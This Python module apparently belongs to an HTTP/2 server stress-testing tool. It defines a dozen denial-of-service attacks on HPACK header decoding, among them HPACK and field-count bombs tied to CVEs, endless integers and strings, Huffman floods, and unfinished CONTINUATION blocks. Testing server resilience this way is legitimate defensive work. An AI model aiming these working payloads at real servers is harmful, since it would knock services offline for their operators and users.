"""Field sections: bombs, and integers without an end."""

from __future__ import annotations

from soak import frames as f
from soak.attacks.base import Attack, Target, collector
from soak.peer import odd

ATTACKS: list[Attack] = []
attack = collector(ATTACKS)

_PSEUDO = f.block(f.fields_of())


@attack("HPACK bomb: 16,000 references to one entry of 4,000 octets", "CVE-2016-6581", calls=0)
def hpack_bomb(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    entry = f.literal(b"x", bytes(b"a" * 3900), 0x40)
    peer.send(f.split_block(1, _PSEUDO + entry + b"\xbe" * 16_000))
    peer.send_all(f.split_block(n, _PSEUDO + b"\xbe" * 16_000) for n in odd(200, 3))
    peer.read_for(1)


@attack("field-count bomb: 16,000 fields, 100 times", "CVE-2026-49975", calls=0)
def field_count_bomb(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    block = _PSEUDO + f.literal(b"a", b"") * 16_000
    peer.send_all(f.split_block(n, block) for n in odd(100))
    peer.read_for(1)


@attack("field-count bomb of indexed fields, 16,000, 100 times", "CVE-2026-49975", calls=0)
def indexed_count_bomb(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send(f.split_block(1, _PSEUDO + f.literal(b"a", b"", 0x40) + b"\xbe" * 16_000))
    peer.send_all(f.split_block(n, _PSEUDO + b"\xbe" * 16_000) for n in odd(100, 3))
    peer.read_for(1)


@attack("16,000 crumbs of cookie, 100 times", "CVE-2026-49975", calls=0)
def cookie_bomb(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    block = _PSEUDO + f.literal(b"cookie", b"", 0x40) + b"\xbe" * 16_000
    peer.send_all(f.split_block(n, block) for n in odd(100))
    peer.read_for(1)


@attack("the largest sections that are let pass, endless for five seconds", patience=5)
def largest_sections(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    entry = f.literal(b"x", b"a" * 3900, 0x40)
    peer.send(f.split_block(1, _PSEUDO + entry))
    n = 3
    while True:
        numbers = list(odd(50, n))
        peer.send(b"".join([f.split_block(k, _PSEUDO + b"\xbe" * 15) for k in numbers]))
        peer.read_until_answered(numbers)
        n += 100


@attack("the largest sections, a hundred held open", calls=100)
def largest_sections_held(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    block = f.block(f.fields_of(b"/silent"))
    fields = b"".join([f.literal(b"x%d" % n, b"a" * 450) for n in range(120)])
    peer.send_all(f.split_block(n, block + fields) for n in odd(100))
    peer.read_for(2)


@attack("a section that is too large, decoded for the table's sake", calls=0)
def large_section(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    block = _PSEUDO + f.literal(b"x", b"a" * 250_000)
    peer.send_all(f.split_block(n, block) for n in odd(100))
    peer.read_for(1)


@attack("table churn: new entries only, endless for five seconds", patience=5)
def table_churn(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    n = 1
    while True:
        numbers = list(odd(50, n))
        peer.send(
            b"".join(
                [
                    f.split_block(
                        k,
                        _PSEUDO
                        + b"".join([f.literal(b"x%d" % i, b"%d" % k, 0x40) for i in range(100)]),
                    )
                    for k in numbers
                ]
            )
        )
        peer.read_until_answered(numbers)
        n += 100


@attack("table size updates, 8,000 a block, endless for five seconds", patience=5)
def size_updates(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    n = 1
    while True:
        numbers = list(odd(10, n))
        block = b"\x20\x3f\xe1\x1f" * 4000 + _PSEUDO
        peer.send(b"".join([f.split_block(k, block) for k in numbers]))
        peer.read_until_answered(numbers)
        n += 20


@attack("an integer without end", ends=True, calls=0)
def endless_integer(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send(f.frame(f.HEADERS, 0, 1, b"\x00\x7f" + b"\xff" * 16_000))
    while True:
        peer.send(f.continuation(1, b"\xff" * 16_000))


@attack("a length of 2^32-1, then octets", ends=True, calls=0)
def endless_string(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    peer.send(f.frame(f.HEADERS, 0, 1, b"\x00" + f.integer(2**32 - 1, 7) + b"a" * 16_000))
    while True:
        peer.send(f.continuation(1, b"a" * 16_000))


@attack("Huffman codes of the longest kind, endless for five seconds", patience=5)
def huffman(target: Target) -> None:
    peer = target.dial()
    peer.hello()
    # EOS is an error; thirty bits of another symbol (0x0a, 30 bits: 3ffffffc), as many as fit
    bits = "".join(["1" * 28 + "00"] * 4 * 3000)
    octets = int(bits, 2).to_bytes(len(bits) // 8, "big")
    field = b"\x00\x01x" + f.integer(len(octets), 7, 0x80) + octets
    n = 1
    while True:
        peer.send(b"".join([f.split_block(k, _PSEUDO + field) for k in odd(10, n)]))
        n += 20


@attack("blocks begun and never ended, as large as they may be", calls=0, connections=20)
def held_blocks(target: Target) -> None:
    peers = []
    for _ in range(20):
        peer = target.dial()
        peer.hello()
        peer.send(f.frame(f.HEADERS, 0, 1, _PSEUDO + b"\x00\x01x" + f.integer(2**20, 7)))
        peer.send(f.continuation(1, b"a" * 16_000) * 15)
        peers.append(peer)
    peers[0].wait(2)
